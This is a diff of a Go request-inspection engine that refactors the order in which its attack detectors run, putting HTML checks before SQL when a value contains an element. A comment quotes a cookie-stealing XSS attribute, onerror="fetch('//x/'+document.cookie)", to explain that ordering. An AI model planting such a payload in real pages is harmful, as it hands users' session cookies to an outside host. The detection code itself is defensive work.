@@ -44,7 +44,7 @@ type Engine struct {
 	minScore      int
 	maxBytes      int
 	paranoia      int
-	splitMin      int // texts this long are judged on two cores (judgeSplit)
+	splitMin      int // texts this long are judged on two cores (judgeConcurrently)
 	scratch       sync.Pool
 }
 
@@ -332,92 +332,22 @@ func (in *input) judge() {
 	// Detectors run most specific first; a certain finding
 	// (score >= 8) ends the judgement of this value, which bounds the work
 	// per value when a flood of attack values arrives.
+	sequence := sqlFirst[:]
+	if m.has(bLT) && html.ElementOpen(in.lower()) {
+		// A value holding an HTML element is read as HTML first: the
+		// quotes and "+" of an attribute such as
+		// onerror="fetch('//x/'+document.cookie)" fingerprint as SQL,
+		// but the sink they attack is the page.
+		sequence = htmlFirst[:]
+	}
 	if len(in.text) >= in.e.splitMin && splitWorthwhile() {
-		in.judgeSplit()
+		in.judgeConcurrently(sequence)
 		return
 	}
-	if in.judgeFirst() {
-		return
-	}
-	in.judgeRest()
-}
-
-// judgeFirst runs the first group of detectors, in order, and reports
-// whether the value is certain (a signal scoring 8 or more) when it stops:
-// the structured languages (JNDI, XML, templates, NoSQL, LDAP, headers,
-// SSI, XPath, session fixation), then SQL and HTML/JavaScript.
-// (Direct calls, not a slice of method values: those would make the
-// input escape to the heap on every value.)
-func (in *input) judgeFirst() bool {
-	m := in.mask
-	if in.detectJNDI(); in.certain() {
-		return true
-	}
-	if in.detectXXE(); in.certain() {
-		return true
-	}
-	if in.detectSSTI(); in.certain() {
-		return true
-	}
-	if in.detectNoSQL(); in.certain() {
-		return true
-	}
-	if in.detectLDAP(); in.certain() {
-		return true
-	}
-	if in.detectHeaderInjection(); in.certain() {
-		return true
-	}
-	if in.detectSSI(); in.certain() {
-		return true
-	}
-	if in.detectXPath(); in.certain() {
-		return true
-	}
-	if in.detectSessionFixation(); in.certain() {
-		return true
-	}
-	// A value holding an HTML element is read as HTML first: the quotes
-	// and "+" of an attribute such as onerror="fetch('//x/'+document.cookie)"
-	// fingerprint as SQL, but the sink they attack is the page.
-	htmlFirst := m.has(bLT) && html.ElementOpen(in.lower())
-	if htmlFirst {
-		if in.detectXSS(); in.certain() {
-			return true
+	for _, d := range sequence {
+		if in.run(d); in.certain() {
+			return
 		}
-	}
-	if in.detectSQLi(); in.certain() {
-		return true
-	}
-	if !htmlFirst {
-		if in.detectXSS(); in.certain() {
-			return true
-		}
-	}
-	return false
-}
-
-// judgeRest runs the second group of detectors, in order, until one makes
-// the value certain: commands, paths, URLs, code, out-of-band domains and
-// probes.
-func (in *input) judgeRest() {
-	if in.detectCmd(); in.certain() {
-		return
-	}
-	if in.detectPath(); in.certain() {
-		return
-	}
-	if in.detectURL(); in.certain() {
-		return
-	}
-	if in.detectCode(); in.certain() {
-		return
-	}
-	if in.detectOAST(); in.certain() {
-		return
-	}
-	if in.v.Part == event.PartPath {
-		in.detectProbe()
 	}
 }
 
